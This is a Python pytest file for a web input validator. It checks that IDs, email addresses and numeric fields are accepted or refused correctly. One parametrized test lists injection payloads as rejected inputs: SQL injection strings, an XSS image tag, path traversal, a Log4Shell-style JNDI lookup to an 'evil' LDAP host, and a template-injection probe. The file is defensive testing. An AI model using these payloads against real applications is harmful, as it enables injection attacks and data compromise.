"""Valid input is accepted, and other input is refused before any component sees it."""

from __future__ import annotations

import pytest
from pydantic import TypeAdapter, ValidationError

from contract.errors import InvalidInputError
from control_center.web import inputs

ID = "89254969-771b-47a0-bfb6-345d262fbae9"
DEAD_LETTER: TypeAdapter[tuple[int, int]] = TypeAdapter(inputs.DeadLetterPlace)
PERSON_ID: TypeAdapter[str] = TypeAdapter(inputs.PersonId)


@pytest.mark.parametrize(
    "text", [ID, ID.upper(), "ana.perez@example.com", "o'neil+x@example.co.uk", "jürgen@example.de"]
)
def test_ids_and_email_addresses_are_accepted(text: str) -> None:
    assert inputs.person_key(f" {text} ") == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "nobody",
        "' OR '1'='1",
        "a@b.c'; DROP TABLE users; --",
        "<img src=x onerror=alert(1)>@x.org",
        f"{ID}/../status",
        "${jndi:ldap://evil}@x.org",
        "{{7*7}}@x.org",
        "a@b\x00.c",
        "a" * 300 + "@example.com",
    ],
)
def test_everything_else_is_refused_without_being_repeated(text: str) -> None:
    with pytest.raises(InvalidInputError) as refused:
        inputs.person_key(text)
    assert refused.value.cause == "give an id (a UUID) or an email address"


def test_an_id_is_made_lower_case() -> None:
    assert PERSON_ID.validate_python(f" {ID.upper()} ") == ID
    with pytest.raises(ValidationError):
        PERSON_ID.validate_python("ana.perez@example.com")


@pytest.mark.parametrize(
    ("value", "number"), [("0", 0), (" 12 ", 12), ("", None), (None, None), (12.0, 12)]
)
def test_whole_numbers(value: str | float | None, number: int | None) -> None:
    assert inputs.whole_number(value, "offset") == number


@pytest.mark.parametrize(
    "text", ["-1", "1e9", "0x10", "1;2", "\N{ARABIC-INDIC DIGIT ONE}", "9" * 19]
)
def test_other_numbers_are_refused_with_the_name_of_the_field(text: str) -> None:
    with pytest.raises(InvalidInputError) as refused:
        inputs.whole_number(text, "offset")
    assert refused.value.cause == "offset: give a whole number of at least 0"


def test_places_of_dead_letters() -> None:
    assert DEAD_LETTER.validate_python("0:12") == (0, 12)
    for text in ("0", "0:", "a:b", "0:1:2", "-1:0", "\N{ARABIC-INDIC DIGIT ONE}:0"):
        with pytest.raises(ValidationError):
            DEAD_LETTER.validate_python(text)
